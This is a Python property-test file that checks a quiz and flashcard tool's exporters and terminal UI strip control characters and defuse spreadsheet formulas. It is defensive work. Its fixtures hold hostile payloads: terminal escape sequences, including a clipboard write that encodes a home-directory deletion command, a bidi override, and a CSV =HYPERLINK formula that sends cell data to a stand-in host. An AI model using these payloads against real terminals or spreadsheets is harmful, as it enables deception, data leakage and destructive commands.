"""Arbitrary text with control characters, through the TUI's text path and every exporter:
no control character ever comes out as one (issue 17, class 2)."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console

from studykit.core.quiz.model import Question, Quiz, QuizVersion
from studykit.core.text import first_control_character, json_safe, visible
from studykit.export.anki import _cloze_text, esc
from studykit.export.quiz.writer import quiz_files
from studykit.tui.widgets import plain
from tests.quiz_sample import sample_quiz

# Anything but newline and tab that a terminal or an XML parser would act on.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
ESCAPES = ["\x1b]0;pwned\x07", "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]8;;http://x.example/\x1b\\link\x1b]8;;\x1b\\",
           "\x1b[2A\x1b[2K", "\x9b2J", "\x00", "\r", "\u202e", "\x7f", "\x08"]
hostile = st.one_of(
    st.text(max_size=40),
    st.lists(st.one_of(st.sampled_from(ESCAPES), st.text(min_size=1, max_size=8)), min_size=1, max_size=6).map("".join),
).filter(lambda s: s.strip() != "")


@given(hostile)
def test_visible_leaves_no_control_character_and_keeps_safe_text(text: str) -> None:
    shown = visible(text)
    assert UNSAFE.search(shown) is None
    assert first_control_character(shown) is None
    if first_control_character(text) is None:
        assert shown == text
    assert "\n" not in visible(text, one_line=True) and "\t" not in visible(text, one_line=True)


@given(hostile)
def test_the_tui_text_path_never_writes_a_control_character(text: str) -> None:
    console = Console(file=io.StringIO(), color_system=None, width=80, legacy_windows=False)
    console.print(plain(text, "bold"))
    written = console.file.getvalue()  # type: ignore[attr-defined]
    assert UNSAFE.search(written) is None, repr(written)


@given(hostile)
def test_json_output_escapes_what_json_leaves_raw(text: str) -> None:
    dumped = json_safe(json.dumps({"x": text}, ensure_ascii=False))
    assert UNSAFE.search(dumped) is None
    assert json.loads(dumped) == {"x": text}  # the same data


@given(hostile)
def test_anki_fields_hold_no_control_character_and_no_deletion(text: str) -> None:
    for field in (esc(text), esc("{{c2::" + text + "}}"), _cloze_text(text + " in Baku", [(0, len(text), 1, "what")])):
        assert UNSAFE.search(field) is None
        assert "{{c2::" not in field
    assert "{{" not in esc(text + "{{c1::x}}") and "}}" not in esc(text + "}}")


def _hostile_quiz(text: str) -> Quiz:
    quiz = sample_quiz(title=f"Quiz {text}")

    def spoil(question: Question) -> Question:
        changes: dict[str, object] = {"prompt": question.prompt + " " + text}
        if question.explanation:
            changes["explanation"] = question.explanation + " " + text
        if question.citation:
            changes["citation"] = question.citation + text
        return dataclasses.replace(question, **changes)

    versions = tuple(QuizVersion(v.label, tuple(spoil(q) for q in v.questions)) for v in quiz.versions)
    return dataclasses.replace(quiz, instructions=text, versions=versions)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile)
def test_every_quiz_format_writes_no_control_character(text: str) -> None:
    quiz = _hostile_quiz(text)
    files = quiz_files(quiz, ["html", "md", "gift", "moodle", "csv", "json"])
    for name, data in files.items():
        decoded = data.decode("utf-8")
        if name.endswith(".csv"):
            decoded = decoded.replace("\r\n", "\n")
        assert UNSAFE.search(decoded) is None, (name, repr(text))
    moodle = next(data for name, data in files.items() if name.endswith(".moodle.xml"))
    ET.fromstring(moodle)  # well-formed XML 1.0, which cannot hold most control characters at all
    table = next(data for name, data in files.items() if name.endswith(".csv")).decode("utf-8")
    for row in list(csv.reader(io.StringIO(table)))[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(ESCAPES))
def test_the_canvas_package_holds_no_control_character(text: str) -> None:
    (_name, data), = quiz_files(_hostile_quiz(text), ["qti"]).items()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for member in package.namelist():
            content = package.read(member).decode("utf-8", "replace")
            assert UNSAFE.search(content.replace("\r\n", "\n")) is None, member


def test_a_formula_in_a_question_is_not_live_in_the_csv() -> None:
    quiz = sample_quiz()
    (choice, *rest) = quiz.versions[0].questions
    link = '=HYPERLINK("http://x.example/?"&A1,"click")'
    spoiled = dataclasses.replace(choice, prompt=link, options=(link, *choice.options[1:]))
    quiz = dataclasses.replace(quiz, versions=(QuizVersion("A", (spoiled, *rest)),))
    (_name, data), = quiz_files(quiz, ["csv"]).items()
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert rows[0]["prompt"] == "'" + link


# --- through the real command, so that the same checks run against any checkout -------------

def test_a_hostile_quiz_title_reaches_no_file_and_no_terminal_raw(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from tests.badinput.decks import with_deck
    from tests.badinput.harness import run_studykit

    with_deck()(tmp_path)
    title = "Quiz \x1b]0;pwned\x07 \x1b]52;c;cm0gLXJmIH4=\x07 \x9b2J \u202e =HYPERLINK(1)"
    code, out, err, _ = run_studykit(
        ["quiz", "build", "--decks-dir", "decks", "--seeds-dir", "seeds", "-n", "2", "--title", title,
         "--format", "html,md,gift,moodle,csv,json", "--out", "out"], cwd=tmp_path,
    )
    assert code == 0, err
    assert UNSAFE.search(out + err) is None, out + err
    written = sorted((tmp_path / "out").iterdir())
    assert written
    for path in written:
        text = path.read_text(encoding="utf-8").replace("\r\n", "\n")
        assert UNSAFE.search(text) is None, path.name
    ET.parse(next(p for p in written if p.name.endswith(".moodle.xml")))


def test_a_deletion_written_in_a_statement_adds_no_anki_card(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """`{{c2::...}}` typed in a statement is text in every field: Anki's Check Database finds
    no deletion to make a card for."""
    from tests.badinput.decks import deck_text, with_deck
    from tests.badinput.harness import run_studykit
    from tests.export.anki_support import import_package, open_collection

    statement = '"The Caucasus Islamic Army entered {{c2::Baku}} on 15 September 1918."'
    with_deck(deck_text(statement=statement))(tmp_path)
    code, _, err, _ = run_studykit(["export", "anki", "out.apkg", "--decks-dir", "decks", "--seeds-dir", "seeds"],
                                   cwd=tmp_path, env={"SOURCE_DATE_EPOCH": "1700000000"})
    assert code == 0, err
    col = open_collection(tmp_path / "anki")
    try:
        import_package(col, tmp_path / "out.apkg")
        before = col.card_count()
        col.fix_integrity()
        assert col.card_count() == before
    finally:
        col.close()
